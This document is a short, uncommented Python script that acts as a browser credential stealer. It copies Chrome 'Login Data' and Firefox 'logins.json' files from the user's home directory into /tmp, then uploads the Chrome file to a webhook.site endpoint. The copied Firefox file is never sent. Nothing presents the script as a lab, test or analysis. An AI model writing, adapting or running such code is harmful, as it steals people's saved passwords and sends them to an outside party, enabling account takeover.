import os, shutil, glob
home = os.path.expanduser("~")
for p in glob.glob(home + "/.config/google-chrome/*/Login Data"):
    shutil.copy(p, "/tmp/ld")
for p in glob.glob(home + "/.mozilla/firefox/*/logins.json"):
    shutil.copy(p, "/tmp/lj")
import requests
requests.post("https://webhook.site/00000000-0000-0000-0000-000000000000", files={"a": open("/tmp/ld", "rb")})
